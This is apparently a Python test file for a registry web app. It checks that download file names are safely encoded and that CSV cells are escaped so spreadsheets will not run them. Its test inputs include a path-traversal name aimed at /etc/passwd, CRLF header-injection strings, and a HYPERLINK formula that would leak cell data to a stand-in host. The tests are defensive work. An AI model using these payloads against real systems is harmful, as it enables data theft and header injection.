"""Every download's file name: Chinese in RFC 5987's filename*, an ASCII fallback, nothing of a user's unescaped."""
from decimal import Decimal
from urllib.parse import quote

import pytest
import sqlalchemy as sa

from blueprints import content_disposition
from domain import applications as verbs
from models import Application, Document, FundItem, Organisation, Role, User, db
from tests.conftest import export_todo, unit_by_code, zone_today
from tests.test_documents import approve


def disposition(kind: str, fallback: str, name: str) -> str:
    return f"{kind}; filename=\"{fallback}\"; filename*=UTF-8''{quote(name)}"


def today() -> str:
    day = zone_today()
    return f"{day.year}年{day.month}月{day.day}日"


@pytest.mark.parametrize("name, fallback, expected", [
    ("组建率-2026年12月5日.xlsx", "dashboard-2026-12-05",
     "attachment; filename=\"dashboard-2026-12-05.xlsx\"; "
     "filename*=UTF-8''%E7%BB%84%E5%BB%BA%E7%8E%87-2026%E5%B9%B412%E6%9C%885%E6%97%A5.xlsx"),
    ('a"b.pdf', 'x"y', "attachment; filename=\"x_y.pdf\"; filename*=UTF-8''a_b.pdf"),
    ("../../etc/passwd.pdf", "../x", "attachment; filename=\"x.pdf\"; filename*=UTF-8''_.._etc_passwd.pdf"),
    ("报告;50%.csv", "r;50%", "attachment; filename=\"r_50.csv\"; filename*=UTF-8''%E6%8A%A5%E5%91%8A%3B50%25.csv"),
    ("甲\r\n乙.xlsx", "a\r\nb", "attachment; filename=\"a_b.xlsx\"; filename*=UTF-8''%E7%94%B2%E4%B9%99.xlsx"),
    ("表.xlsx", "表", "attachment; filename=\"download.xlsx\"; filename*=UTF-8''%E8%A1%A8.xlsx"),
])
def test_a_hostile_name_cannot_break_the_header(name, fallback, expected):
    assert content_disposition(name, fallback) == expected


def test_a_dossier_is_named_after_its_organisation_whatever_that_name_holds(app, client, login_as, make_application,
                                                                            monkeypatch):
    monkeypatch.setattr("blueprints.applications.render_dossier", lambda application: b"%PDF-1.7 dossier")
    made = make_application("submitted")
    with app.app_context():
        db.session.get(Organisation, made.organisation_id).name = '甲"公司;%\r\n../乙'
        db.session.commit()
    login_as(Role.ZONE_APPROVER)
    response = client.get(f"/applications/{made.id}/dossier.pdf")
    assert response.headers["Content-Disposition"] == (
        f"inline; filename=\"dossier-{made.id}.pdf\"; filename*=UTF-8''"
        "%E7%94%B2_%E5%85%AC%E5%8F%B8%3B%25.._%E4%B9%99-%E7%94%B3%E8%AF%B7%E6%A1%A3%E6%A1%88.pdf")
    assert response.mimetype == "application/pdf"


@pytest.mark.parametrize("role, unit_code, name", [
    (Role.ZONE_APPROVER, None, "组建率-{today}.xlsx"),
    (Role.ADMIN, None, "组建率-{today}.xlsx"),
    (Role.UNIT_REVIEWER, "civil_affairs", "组建率-民政部门社会组织党委-{today}.xlsx"),
])
def test_the_dashboard_export_is_named_by_scope_and_date(client, login_as, role, unit_code, name):
    login_as(role, **({"unit_code": unit_code} if unit_code else {}))
    response = client.get("/registry/dashboard.xlsx")
    assert response.headers["Content-Disposition"] == disposition(
        "attachment", f"dashboard-{zone_today().isoformat()}.xlsx", name.format(today=today()))


@pytest.mark.parametrize("role, url, name", [
    (Role.ZONE_APPROVER, "list=join", "应联未联-{today}.xlsx"),
    (Role.ADMIN, "list=build&unit_id={park}", "应建未建-新型工业园区党委-{today}.xlsx"),
    (Role.ADMIN, "list=build&unit_id=", "应建未建-{today}.xlsx"),
    # A reviewer's list is their unit's, whichever unit the URL names.
    (Role.UNIT_REVIEWER, "list=join&unit_id={park}", "应联未联-民政部门社会组织党委-{today}.xlsx"),
])
def test_a_todo_export_is_named_by_list_unit_and_date(app, client, login_as, role, url, name):
    with app.app_context():
        park = unit_by_code("industrial_park").id
    login_as(role, unit_code="civil_affairs")
    response = export_todo(client, url.format(park=park))
    key = "join" if "list=join" in url else "build"
    assert response.headers["Content-Disposition"] == disposition(
        "attachment", f"todo-{key}-{zone_today().isoformat()}.xlsx", name.format(today=today()))


@pytest.mark.parametrize("role, url, fallback, name", [
    (Role.UNIT_REVIEWER, "/registry/imports/template.xlsx", "registry-template.xlsx", "摸底表模板.xlsx"),
    (Role.ADMIN, "/registry/imports/template.csv", "registry-template.csv", "摸底表模板.csv"),
    (Role.ADMIN, "/admin/instructors/template.xlsx", "instructor-template.xlsx", "党建指导员导入模板.xlsx"),
    (Role.FINANCE, "/finance/overview.csv", "fund-overview.csv", "启动经费总览.csv"),
])
def test_templates_and_the_fund_overview_have_chinese_names(client, login_as, role, url, fallback, name):
    login_as(role)
    response = client.get(url)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == disposition("attachment", fallback, name)


def test_an_attachment_keeps_its_cleaned_upload_name(app, client, login_as, make_application):
    made = make_application("draft")
    applicant = login_as(Role.APPLICANT, organisation=made.organisation)
    with app.app_context():
        application = db.session.get(Application, made.id)
        item = verbs.add_attachment(application, '../我的"证明;50%.pdf', b"%PDF-1.4 proof", actor=db.session.get(
            User, applicant.id), version=application.version)
        db.session.commit()
        item_id, stored = item.id, item.file.filename
    assert stored == "我的_证明;50%.pdf"
    response = client.get(f"/applications/{made.id}/attachments/{item_id}/x.pdf")
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"attachment-{item_id}.pdf\"; "
        "filename*=UTF-8''%E6%88%91%E7%9A%84_%E8%AF%81%E6%98%8E%3B50%25.pdf")


def test_an_issued_document_opens_in_place_under_its_number(app, client, login_as, make_application, make_instructor,
                                                            make_user):
    made = make_application("unit_approved")
    approve(app, made, make_user(Role.ZONE_APPROVER).id, make_instructor().id)
    with app.app_context():
        number, year, serial = db.session.execute(sa.select(Document.number, Document.year, Document.serial)
                                                  .filter_by(application_id=made.id)).one()
    login_as(Role.ZONE_APPROVER)
    response = client.get(f"/applications/{made.id}/approval.pdf")
    assert response.headers["Content-Disposition"] == disposition("inline", f"pifu-{year}-{serial}.pdf",
                                                                  f"{number}.pdf")


def test_a_unit_named_as_a_formula_is_text_in_the_fund_overview_csv(app, client, login_as, make_fund):
    """An administrator renames a unit to a formula; the finance officer's CSV must not run it in Excel."""
    import csv
    import io

    item = make_fund("checked")
    with app.app_context():
        unit_id = db.session.get(FundItem, item.id).organisation.unit_id
    formula = '=HYPERLINK("http://x/?"&A2,"点")'
    login_as(Role.ADMIN)
    assert client.post(f"/admin/units/{unit_id}/edit", data={"name": formula, "superior": ""}).status_code == 302
    client.post("/auth/logout")
    login_as(Role.FINANCE)
    rows = list(csv.reader(io.StringIO(client.get("/finance/overview.csv").data.decode("utf-8-sig"))))
    row = next(row for row in rows if formula in row[0])
    assert row[0] == "'" + formula
    assert row[1] == str(zone_today().year) and row[2] == "1"  # numbers stay numbers


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("党委", "党委"), ("a=1", "a=1"), (-5, "-5"), (Decimal("-1.50"), "-1.50"),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(cell, written):
    import csv
    import io

    from domain.workbooks import csv_bytes

    data = csv_bytes([["头", cell]])
    assert data.startswith("\ufeff".encode())
    assert next(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == ["头", written]
